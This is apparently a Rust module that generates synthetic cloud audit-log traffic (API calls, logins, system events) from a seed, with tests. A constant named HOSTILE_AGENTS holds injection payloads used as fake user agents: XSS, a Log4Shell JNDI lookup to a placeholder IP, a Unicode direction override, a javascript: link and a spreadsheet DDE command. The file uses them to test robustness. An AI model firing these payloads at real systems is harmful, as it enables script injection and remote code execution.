//! The events of ordinary days: an event is a function of the seed and its number.
//!
//! An event is rendered when a page needs it; the trail stores its time and its facets.

use std::borrow::Cow;
use std::collections::BTreeMap;
use std::sync::Arc;

use chrono::{DateTime, SubsecRound};
use rand::distr::Distribution;
use rand::distr::weighted::WeightedIndex;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

use super::activity::{ActivityProfile, SECOND, people_share};
use super::catalogue::{
    By, CALLS, Call, Effect, ROUTINES, dates_its_deletion, expand, goes_by_its_parent, info_of, is_named,
    is_of_projects,
};
use super::entities::{Resource, User};
use super::event::{ApiCall, Content, Event, Login, Nanos, Principal, SystemEvent, Touched, event_id, nanos, time};
use super::ids::{access_key, uuid_v4};
use super::json::{Json, escaped};
use super::organization::{ORGANIZATION_ID, Organization};

/// The calls of a session: people and automation make several calls, seconds apart.
const SESSION: u64 = 8;

/// One event in so many is the next row of the catalogue whatever its weight, so that every row occurs.
const TURN: u64 = 24;

/// The stream of everyday events.
#[derive(Debug)]
pub(super) struct Traffic {
    organization: Arc<Organization>,
    /// The generator with the seed. Each event and each session has its own stream.
    rng: ChaCha8Rng,
    /// The number of events up to `now`.
    count: u64,
    activity: ActivityProfile,
    /// The activity of one session, in the unit of [`ActivityProfile::total`].
    pace: f64,
    people: WeightedIndex<u32>,
    machines: WeightedIndex<u32>,
    routines: WeightedIndex<u32>,
}

/// One principal's session.
struct Session<'a> {
    at: Nanos,
    actor: Actor<'a>,
    /// Time from one call to the next.
    step: Nanos,
    /// Whether calls come in pairs at the same nanosecond.
    paired: bool,
    user_agent: &'a str,
}

#[derive(Clone, Copy)]
struct Actor<'a> {
    id: &'a str,
    address: &'a str,
    user_agent: &'a str,
    user: Option<&'a User>,
}

/// User agents that break code which trusts them. Any caller can send one.
const HOSTILE_AGENTS: [&str; 6] = [
    "\"><img src=x onerror=alert(document.domain)>",
    "${jndi:ldap://192.0.2.1/a} $__from ${var}",
    "curl/8.5.0 \u{202e}tobrowser\u{202c}",
    "🤖 bot 'with' \"quotes\" \\ and | pipes | [link](javascript:alert(1))",
    "",
    "=cmd|' /C calc'!A0",
];

impl Traffic {
    pub(super) fn new(organization: Arc<Organization>, seed: u64, start: Nanos, now: Nanos, count: u64) -> Self {
        let activity = ActivityProfile::new(start, now);
        Self {
            organization,
            rng: ChaCha8Rng::seed_from_u64(seed),
            count,
            pace: activity.total() / real(count.div_ceil(SESSION).max(1)),
            activity,
            people: weights(CALLS.iter().map(|call| if call.by == By::Machines { 0 } else { call.weight })),
            machines: weights(CALLS.iter().map(|call| if call.by == By::People { 0 } else { call.weight })),
            routines: weights(ROUTINES.iter().map(|routine| routine.weight)),
        }
    }

    /// The begin of an event's session: no event of it or of a later session is older.
    pub(super) fn begins(&self, index: u64) -> Nanos {
        self.session_start(index / SESSION, &mut self.stream(2 * (index / SESSION)))
    }

    /// The event of a number. Numbers from `count` on are after `now`.
    pub(super) fn event(&self, index: u64) -> Event<'_> {
        let session = self.session(index / SESSION);
        let rng = &mut self.stream(2 * index + 1);
        let step = (index % SESSION).cast_signed();
        let step = if session.paired { step & !1 } else { step };
        let at = session.at + step * session.step;
        match rng.random_range(0..100) {
            0..7 if !is_turn(index) => self.login(at, &session, rng),
            7..10 if !is_turn(index) => self.system(at, rng),
            _ => self.call(index, at, &session, rng),
        }
    }

    fn stream(&self, stream: u64) -> ChaCha8Rng {
        let mut rng = self.rng.clone();
        rng.set_stream(stream);
        rng
    }

    fn session_start(&self, session: u64, rng: &mut ChaCha8Rng) -> Nanos {
        self.activity.at((real(session) + rng.random::<f64>()) * self.pace)
    }

    fn session(&self, number: u64) -> Session<'_> {
        let rng = &mut self.stream(2 * number);
        let mut at = self.session_start(number, rng);
        let actor = if rng.random_bool(people_share(at)) { self.person(rng) } else { self.machine(rng) };
        let step = if actor.user.is_some() {
            rng.random_range(2 * SECOND..20 * SECOND)
        } else {
            rng.random_range(SECOND / 20..2 * SECOND)
        };
        // In a short span, sessions are short; past sessions end before now.
        let step = step.min(self.activity.span() / 32);
        if number * SESSION < self.count {
            at = at.min(self.activity.now - step * SESSION.cast_signed() - 1);
        }
        let user_agent = if rng.random_bool(0.01) {
            HOSTILE_AGENTS[rng.random_range(0..HOSTILE_AGENTS.len())]
        } else if actor.user.is_some() && rng.random_bool(0.1) {
            "scaleway-cli/2.42.0 (go1.25.1; darwin; arm64)"
        } else {
            actor.user_agent
        };
        Session { at, actor, step, paired: rng.random_bool(0.06), user_agent }
    }

    fn person(&self, rng: &mut impl Rng) -> Actor<'_> {
        let user = &self.organization.users[rng.random_range(0..self.organization.users.len())];
        Actor { id: &user.id, address: &user.address, user_agent: &user.user_agent, user: Some(user) }
    }

    fn machine(&self, rng: &mut impl Rng) -> Actor<'_> {
        let applications = &self.organization.applications;
        // Terraform and the deployments are the busiest; the deleted application has a few events.
        let application = match rng.random_range(0..100) {
            0..35 => &applications[0],
            35..60 => &applications[1],
            60..62 => &self.organization.departed,
            _ => &applications[rng.random_range(0..applications.len())],
        };
        Actor { id: &application.id, address: &application.address, user_agent: &application.user_agent, user: None }
    }

    fn call<'a>(&'a self, index: u64, at: Nanos, session: &Session<'a>, rng: &mut ChaCha8Rng) -> Event<'a> {
        let Session { mut actor, mut user_agent, .. } = *session;
        let row = if is_turn(index) {
            usize::try_from(index / TURN).unwrap_or_default() % CALLS.len()
        } else if actor.user.is_some() {
            self.people.sample(rng)
        } else {
            self.machines.sample(rng)
        };
        let call = &CALLS[row];
        if call.by == By::People && actor.user.is_none() {
            actor = self.person(rng);
            user_agent = actor.user_agent;
        } else if call.by == By::Machines && actor.user.is_some() {
            actor = self.machine(rng);
            user_agent = actor.user_agent;
        }
        let in_cluster = call.product == "kubernetes";
        // Instance events have microseconds and random ids.
        let at = if call.product == "instance" { micros(at) } else { at };
        let status = match rng.random_range(0..1000) {
            0..18 => 403,
            18..26 => [400, 404, 409, 412, 429, 500, 503][rng.random_range(0..7)],
            _ => call.success(),
        };
        let (body, resources, first) = self.touch(at, call, status, actor, rng);
        let call = ApiCall {
            principal: (!call.is_anonymous()).then_some(Principal { id: actor.id }),
            project_id: call.has_project().then_some(first.project_id.as_str()),
            source_ip: if in_cluster { "" } else { actor.address },
            user_agent: (!in_cluster).then_some(user_agent),
            product_name: &call.product,
            service_name: &call.service,
            method_name: &call.method,
            request_body: Json(body),
            status_code: status,
            ..ApiCall::default()
        };
        Event::api(at, first.locality, call, resources, rng)
    }

    /// The request body, the listed resources, and the resource that decides project and locality.
    fn touch<'a>(
        &'a self,
        at: Nanos,
        call: &'static Call,
        status: u16,
        actor: Actor<'a>,
        rng: &mut ChaCha8Rng,
    ) -> (String, Vec<Touched<'a>>, &'a Resource) {
        let effect = call.effect();
        let mut kinds = call.on.split('+');
        let first = self.pick(kinds.next().unwrap_or_default(), &call.method, at, actor, rng);
        let target = Target::new(first, actor.id, at, effect, rng);
        let body = self.fill(&call.body, &target, rng);
        let mut resources = Vec::new();
        // A refused creation lists no resource.
        if call.lists_resources() && (status < 300 || effect != Effect::Create) {
            resources.push(self.touched(&target, at, rng));
            for kind in kinds {
                let other = self.organization.pick(kind, rng);
                // A batch creates or deletes resources of one type; other types stay.
                let effect = if kind == first.kind { effect } else { Effect::Modify };
                resources.push(self.touched(&Target::new(other, actor.id, at, effect, rng), at, rng));
            }
        }
        (body, resources, first)
    }

    /// The resource of a call: the actor for log-ins, any resource of the type for other calls.
    fn pick(&self, kind: &str, method: &str, at: Nanos, actor: Actor<'_>, rng: &mut ChaCha8Rng) -> &Resource {
        let own = match (kind, actor.user) {
            ("iam_user", Some(user)) if matches!(method, "RenewJWT" | "CreatePasswordLogin" | "CheckLoginMFAOTP") => {
                Some(&user.id)
            }
            ("account_user", Some(user)) => Some(&user.account_root_user_id),
            _ => None,
        };
        let own = own.and_then(|id| self.organization.resources_of(kind).find(|resource| resource.id == *id));
        let resource = own.unwrap_or_else(|| self.organization.pick(kind, rng));
        // Only the incident starts and stops its server.
        let incident = &self.organization.incident;
        if method == "ServerAction" && resource.id == incident.server_id && at >= nanos(incident.started_at) {
            let other = self.organization.resources_of(kind).find(|resource| resource.id != incident.server_id);
            return other.unwrap_or(resource);
        }
        resource
    }

    fn touched<'a>(&'a self, target: &Target<'a>, at: Nanos, rng: &mut ChaCha8Rng) -> Touched<'a> {
        let kind = target.resource.kind;
        let (id, name) = match self.organization.parent_of(target.resource) {
            Some(cluster) if goes_by_its_parent(kind) => {
                (Cow::Borrowed(cluster.id.as_str()), Cow::Borrowed(cluster.name.as_str()))
            }
            _ => (target.id.clone(), target.name.clone()),
        };
        let touched_at = at - rng.random_range(1_000_000..60_000_000);
        Touched {
            id,
            kind,
            created_at: time(micros(target.created_at)),
            updated_at: time(micros(touched_at.max(target.created_at))),
            deleted_at: (target.effect == Effect::Delete && dates_its_deletion(kind)).then_some(time(touched_at)),
            name: is_named(kind).then_some(name),
            info: info_of(kind)
                .map(|info| (format!("{kind}_info"), Json(self.fill(info, target, rng))))
                .into_iter()
                .collect(),
        }
    }

    fn fill(&self, template: &str, target: &Target<'_>, rng: &mut ChaCha8Rng) -> String {
        let organization = &*self.organization;
        expand(template, |word, out| match word {
            "id" => out.push_str(&target.id),
            "name" => out.push_str(&escaped(&target.name)),
            "parent" => out.push_str(organization.parent_of(target.resource).map_or("", |parent| &parent.id)),
            "project" => out.push_str(&target.resource.project_id),
            "organization" => out.push_str(ORGANIZATION_ID),
            "network" => out.push_str(&organization.pick("vpc_private_network", rng).id),
            "group" => out.push_str(&organization.pick("instance_security_group", rng).id),
            "backend" => out.push_str(&organization.pick("load_balancer_backend", rng).id),
            "self" => out.push_str(target.actor),
            "user" => out.push_str(&organization.pick("iam_user", rng).id),
            "email" => out.push_str(&organization.pick("iam_user", rng).name),
            "application" => out.push_str(&organization.pick("iam_application", rng).id),
            "small" => out.push(char::from(b'1' + rng.random_range(0..9u8))),
            "uuid" => out.push_str(&uuid_v4(rng.random())),
            unknown => debug_assert!(false, "the catalogue has an unknown word: ${unknown}"),
        })
    }

    fn login<'a>(&'a self, at: Nanos, session: &Session<'a>, rng: &mut ChaCha8Rng) -> Event<'a> {
        let users = &self.organization.users;
        let user = session.actor.user.unwrap_or_else(|| &users[rng.random_range(0..users.len())]);
        let (result, failure_reason) = match rng.random_range(0..100) {
            0..4 => ("failure", Some("invalid_password")),
            4..6 if user.mfa => ("failure", Some("invalid_mfa")),
            _ => ("success", None),
        };
        let id = event_id(at, "iam", rng);
        let login = Login {
            organization_id: ORGANIZATION_ID,
            source_ip: &user.address,
            user_agent: rng.random_bool(0.98).then_some(&*user.user_agent),
            resources: vec![user_resource(&self.organization, user)],
            result,
            failure_reason: failure_reason.or((at % 3 == 0).then_some("unknown_failure_reason")),
            country_code: if rng.random_bool(0.02) { "unknown_country_code" } else { &user.country },
            method: ["password", "password", "oauth2", "saml", "authentication_code"][rng.random_range(0..5)],
            origin: if rng.random_bool(0.01) { "admin_api" } else { "public_api" },
            mfa_type: user.mfa.then_some("totp").or((at % 2 == 0).then_some("unknown_mfa_type")),
        };
        Event { id, recorded_at: time(at), locality: None, content: Content::Login(login) }
    }

    fn system(&self, at: Nanos, rng: &mut ChaCha8Rng) -> Event<'_> {
        let routine = &ROUTINES[self.routines.sample(rng)];
        let resource = self.organization.pick(&routine.on, rng);
        let target = Target::new(resource, "", at, Effect::Modify, rng);
        let id = event_id(at, &routine.product, rng);
        let event = SystemEvent {
            organization_id: ORGANIZATION_ID,
            project_id: is_of_projects(&routine.product).then_some(resource.project_id.as_str()),
            product_name: &routine.product,
            source: &routine.source,
            system_name: &routine.system_name,
            resources: vec![self.touched(&target, at, rng)],
            kind: &routine.kind,
        };
        Event { id, recorded_at: time(at), locality: Some(resource.locality), content: Content::System(event) }
    }
}

/// The user as the resource of a log-in.
pub(super) fn user_resource<'a>(organization: &'a Organization, user: &'a User) -> Touched<'a> {
    let resource = organization.resources_of("iam_user").find(|resource| resource.id == user.id);
    let created_at = resource.map_or(DateTime::UNIX_EPOCH, |resource| resource.created_at.trunc_subsecs(6));
    Touched {
        id: Cow::Borrowed(&user.id),
        kind: "iam_user",
        created_at,
        updated_at: created_at,
        deleted_at: None,
        name: Some(Cow::Borrowed(&user.email)),
        info: BTreeMap::new(),
    }
}

/// A resource of a call.
struct Target<'a> {
    resource: &'a Resource,
    /// The id of the caller.
    actor: &'a str,
    id: Cow<'a, str>,
    name: Cow<'a, str>,
    created_at: Nanos,
    effect: Effect,
}

impl<'a> Target<'a> {
    /// Created and deleted resources are short-lived and have new ids; modified ones always exist.
    fn new(resource: &'a Resource, actor: &'a str, at: Nanos, effect: Effect, rng: &mut impl Rng) -> Self {
        let age = match effect {
            Effect::Create => rng.random_range(2_000..40_000) * 1000,
            Effect::Delete => rng.random_range(SECOND * 60..SECOND * 86_400),
            Effect::Modify => {
                let created_at = nanos(resource.created_at);
                let (id, name) = (Cow::Borrowed(resource.id.as_str()), Cow::Borrowed(resource.name.as_str()));
                return Self { resource, actor, id, name, created_at, effect };
            }
        };
        let id = if resource.kind == "iam_api_key" { access_key(rng) } else { uuid_v4(rng.random()) };
        let name = match resource.kind {
            "iam_user" => format!("guest-{}@example.com", rng.random_range(100..1000)),
            "ipam_ip" | "load_balancer_ip" | "serverless_containers_domain" => resource.name.clone(),
            _ => format!("{}-{:04x}", resource.name, rng.random::<u16>()),
        };
        Self { resource, actor, id: id.into(), name: name.into(), created_at: at - age, effect }
    }
}

fn weights(weights: impl Iterator<Item = u32>) -> WeightedIndex<u32> {
    WeightedIndex::new(weights).expect("the catalogue has rows with a weight")
}

fn is_turn(index: u64) -> bool {
    index % TURN == TURN / 2
}

fn micros(at: Nanos) -> Nanos {
    at - at.rem_euclid(1000)
}

#[expect(clippy::cast_precision_loss, reason = "counts of events are far below 2^52")]
fn real(count: u64) -> f64 {
    count as f64
}

#[cfg(test)]
mod tests {
    use chrono::TimeDelta;

    use super::super::activity::{HOUR, calendar};
    use super::*;

    const NOW: Nanos = 1_773_327_845_678_901_234;

    fn traffic(count: u64, span: Nanos) -> Traffic {
        let organization = Organization::new(DateTime::from_timestamp_nanos(NOW), TimeDelta::nanoseconds(span));
        Traffic::new(Arc::new(organization), 7, NOW - span, NOW, count)
    }

    #[test]
    fn past_events_end_before_now_and_future_events_begin_at_now() {
        for (count, span) in [(8_000, 168 * HOUR), (801, HOUR / 2), (1, HOUR), (10_000, 30 * HOUR + 1)] {
            let traffic = traffic(count, span);
            let past: Vec<_> = (0..count).map(|number| traffic.event(number).at()).collect();
            assert!(past.iter().all(|&at| at < NOW && at >= NOW - span - HOUR), "{count} in {span}");
            let session = count.next_multiple_of(SESSION);
            let future: Vec<_> = (session..session + 800).map(|number| traffic.event(number).at()).collect();
            assert!(future.iter().all(|&at| at >= NOW), "{count} in {span}");
            let begins: Vec<_> = (0..count + 800).map(|number| traffic.begins(number)).collect();
            assert!(begins.is_sorted());
            assert!((session..).zip(&future).all(|(number, &at)| at >= traffic.begins(number) - 1000));
        }
    }

    #[test]
    fn days_are_busier_than_nights_and_kinds_have_their_shares() {
        let traffic = traffic(12_000, 168 * HOUR);
        let (mut day, mut night) = (0, 0);
        let mut kinds = [0; 3];
        for number in 0..12_000 {
            let event = traffic.event(number);
            match calendar(event.at()).0 {
                9..17 => day += 1,
                0..5 => night += 1,
                _ => {}
            }
            kinds[event.kind() as usize] += 1;
        }
        assert!(day > 4 * night, "{day} by day, {night} by night");
        assert!(matches!(kinds, [10_600..=11_200, 650..=950, 250..=450]), "{kinds:?}");
    }
}
